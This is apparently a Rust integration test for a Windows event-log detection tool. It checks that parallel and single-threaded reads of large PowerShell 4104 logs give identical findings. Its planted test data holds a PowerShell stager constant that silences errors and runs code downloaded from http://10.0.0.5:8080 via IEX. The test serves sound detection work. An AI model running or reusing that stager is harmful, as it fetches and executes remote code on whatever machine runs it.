//! A large JSON Lines file of real Windows events (the OTRF Security-Datasets
//! exports of the shared corpus, repeated) read as parallel ranges (`-j2`, `-j4`)
//! gives exactly the findings of a single-threaded read (`-j1`), line numbers
//! included, and a multi-part 4104 script block whose parts straddle a range edge
//! is still joined; a pretty-printed file as large is read whole.

mod common;

use common::{manifest_dir, parse_jsonl, run_sighunt};
use serde_json::{Value, json};

/// Above the size from which a file is split (`sources::chunked::MIN_CHUNKED_BYTES`).
const TARGET_BYTES: usize = 72 * 1024 * 1024;

/// The error-suppressing stager every planted block carries.
const STAGER: &str = "$ErrorActionPreference = 'SilentlyContinue'; $wc=New-Object System.Net.WebClient; $wc.Headers.Add('User-Agent','Mozilla/5.0'); IEX $wc.DownloadString('http://10.0.0.5:8080/launcher.ps1'); Start-Job -ScriptBlock { while($true){ Start-Sleep 60 } }";
/// The stager planted as block `q` (each its own, so none is taken for a repeat).
fn stager(q: usize) -> String {
    STAGER.replace("launcher.ps1", &format!("launcher{q}.ps1"))
}

/// A look-alike that does not silence errors.
const BENIGN: &str = "$ErrorActionPreference = 'Stop'; Get-ChildItem C:\\Windows\\Temp | Remove-Item -Recurse -ErrorAction Stop";

fn corpus_lines() -> Option<Vec<String>> {
    let dir = manifest_dir().join("../shared/corpus/windows");
    let mut lines = Vec::new();
    for name in [
        "OTRF_Security-Datasets_empire_launcher_vbs_2020-09-04160940.json",
        "OTRF_Security-Datasets_empire_psremoting_stager_2020-09-20170827.json",
    ] {
        let text = std::fs::read_to_string(dir.join(name)).ok()?;
        lines.extend(
            text.lines()
                .filter(|l| !l.trim().is_empty())
                .map(str::to_string),
        );
    }
    Some(lines)
}

/// One 4104 part as NXLog writes it (the corpus's shape).
fn part(id: &str, number: usize, total: usize, text: &str) -> String {
    json!({
        "EventID": 4104,
        "SourceName": "Microsoft-Windows-PowerShell",
        "Channel": "Microsoft-Windows-PowerShell/Operational",
        "Hostname": "WORKSTATION5.theshire.local",
        "EventTime": "2020-09-04 16:09:59",
        "ExecutionProcessID": 2316,
        "ScriptBlockId": id,
        "MessageNumber": number.to_string(),
        "MessageTotal": total.to_string(),
        "ScriptBlockText": text,
    })
    .to_string()
}

/// Writes the corpus repeated to [`TARGET_BYTES`] with planted blocks: a 3-part
/// stager around each place the file is cut at (part 1 before, parts 2 and 3
/// after, so one straddles every edge of the ranges `-j2` and `-j4` read, which
/// are the same: ranges of at most ~16 MiB), and a benign block beside each.
/// Returns the text and the lines of the planted blocks' first parts.
fn write_corpus(path: &std::path::Path, lines: &[String]) -> (String, Vec<usize>) {
    let mut out: Vec<String> = Vec::new();
    let mut size = 0;
    while size < TARGET_BYTES {
        for l in lines {
            size += l.len() + 1;
            out.push(l.clone());
        }
    }
    let cuts = [STAGER.len() / 5, STAGER.len() / 2];
    let mut planted = Vec::new();
    // From the back, so earlier indices stay valid.
    let parts = common::expected_ranges(size as u64, 4);
    assert_eq!(parts, common::expected_ranges(size as u64, 2));
    for q in (1..parts).rev() {
        let mut at = 0;
        let mut bytes = 0;
        while bytes < size * q / parts {
            bytes += out[at].len() + 1;
            at += 1;
        }
        let id = format!("0d5e{q}a7c-5c2b-4f4e-9d1e-planted{q}");
        let stager = stager(q);
        let benign = format!("7f00{q}b11-0000-4000-8000-benign{q}");
        // 30 lines on each side: far more than the few KB planting moves an edge.
        out.insert(at + 30, part(&id, 3, 3, &stager[cuts[1]..]));
        out.insert(at + 20, part(&id, 2, 3, &stager[cuts[0]..cuts[1]]));
        out.insert(at + 21, part(&benign, 2, 2, &BENIGN[10..]));
        out.insert(at - 25, part(&benign, 1, 2, &BENIGN[..10]));
        out.insert(at - 30, part(&id, 1, 3, &stager[..cuts[0]]));
        planted.push(id);
    }
    let text = out.join("\n") + "\n";
    std::fs::write(path, &text).unwrap();
    let first_lines = out
        .iter()
        .enumerate()
        .filter(|(_, l)| {
            planted.iter().any(|id| l.contains(id.as_str()))
                && l.contains("\"MessageNumber\":\"1\"")
        })
        .map(|(i, _)| i + 1)
        .collect();
    (text, first_lines)
}

fn hunt(path: &std::path::Path, threads: &str) -> (Vec<Value>, String) {
    let run = run_sighunt([
        "hunt",
        "--format",
        "jsonl",
        "--no-progress",
        "-j",
        threads,
        path.to_str().unwrap(),
    ]);
    assert!(run.success(), "{}", run.describe());
    assert!(run.stderr.contains("0 input errors"), "{}", run.describe());
    let mut findings = parse_jsonl(&run.stdout).unwrap();
    findings.sort_by_key(|f| f.to_string());
    (findings, run.stderr)
}

#[test]
fn a_split_json_lines_read_finds_exactly_what_a_single_read_finds() {
    let Some(lines) = corpus_lines() else {
        eprintln!("SKIP: shared corpus absent");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("otrf.json");
    let (_text, first_lines) = write_corpus(&path, &lines);
    let blocks = first_lines.len();
    assert!(blocks >= 3, "{blocks} planted blocks");

    // Every edge of the ranges of -j2 and -j4 falls inside one planted block.
    let starts = |threads| {
        sighunt_core::sources::chunked::plan(&path, threads)
            .unwrap()
            .unwrap()
            .iter()
            .skip(1)
            .map(|r| r.first_line as usize)
            .collect::<Vec<_>>()
    };
    for edge in starts(2).into_iter().chain(starts(4)) {
        assert!(
            first_lines.iter().any(|&l| l < edge && edge <= l + 60),
            "edge at line {edge} is inside a planted block"
        );
    }

    let (single, stderr) = hunt(&path, "1");
    assert!(!stderr.contains("parallel ranges"), "{stderr}");
    let planted: Vec<&Value> = single
        .iter()
        .filter(|f| {
            f["nohup_args"]
                .as_str()
                .is_some_and(|a| a.contains("10.0.0.5"))
        })
        .collect();
    // Each block is found once, whole, at its first part's line.
    assert_eq!(planted.len(), blocks, "{planted:?}");
    for f in &planted {
        assert_eq!(f["detection_type"], "ps_error_suppression");
        let args = f["nohup_args"].as_str().unwrap();
        assert!(
            (1..=blocks).any(|q| args == stager(q)),
            "joined whole: {args}"
        );
        let line = f["source"]["line"].as_u64().unwrap() as usize;
        assert!(first_lines.contains(&line), "line {line}");
    }
    assert!(
        !single.iter().any(|f| f["nohup_args"]
            .as_str()
            .is_some_and(|a| a.contains("Remove-Item"))),
        "the benign look-alike is not raised"
    );
    assert!(single.len() > planted.len(), "the corpus's own findings");

    for threads in ["2", "4"] {
        let (split, stderr) = hunt(&path, threads);
        let bytes = std::fs::metadata(&path).unwrap().len();
        assert_eq!(
            common::split_ranges(&stderr),
            Some(common::expected_ranges(bytes, threads.parse().unwrap())),
            "the file was split: {stderr}"
        );
        assert_eq!(single.len(), split.len(), "-j{threads}");
        if let Some((a, b)) = single.iter().zip(&split).find(|(a, b)| a != b) {
            panic!("-j1 found\n{a}\nwhere -j{threads} found\n{b}");
        }
    }
}

#[test]
fn a_large_pretty_printed_json_file_is_read_whole() {
    let Some(lines) = corpus_lines() else {
        eprintln!("SKIP: shared corpus absent");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("pretty.json");
    // The same events as a pretty-printed array, with one planted stager.
    let mut text = String::from("[\n");
    let mut first = true;
    let mut push = |text: &mut String, v: &Value| {
        if !std::mem::take(&mut first) {
            text.push_str(",\n");
        }
        text.push_str(&serde_json::to_string_pretty(v).unwrap());
    };
    'fill: loop {
        for l in &lines {
            push(&mut text, &serde_json::from_str(l).unwrap());
            if text.len() > TARGET_BYTES {
                break 'fill;
            }
        }
    }
    let planted: Value = serde_json::from_str(&part("11111111-2222", 1, 1, STAGER)).unwrap();
    push(&mut text, &planted);
    text.push_str("\n]\n");
    std::fs::write(&path, &text).unwrap();

    let (single, _) = hunt(&path, "1");
    let (split, stderr) = hunt(&path, "2");
    assert!(!stderr.contains("parallel ranges"), "read whole: {stderr}");
    assert_eq!(single, split);
    assert_eq!(
        split
            .iter()
            .filter(|f| f["nohup_args"].as_str() == Some(STAGER))
            .count(),
        1,
        "the planted stager is found"
    );
}
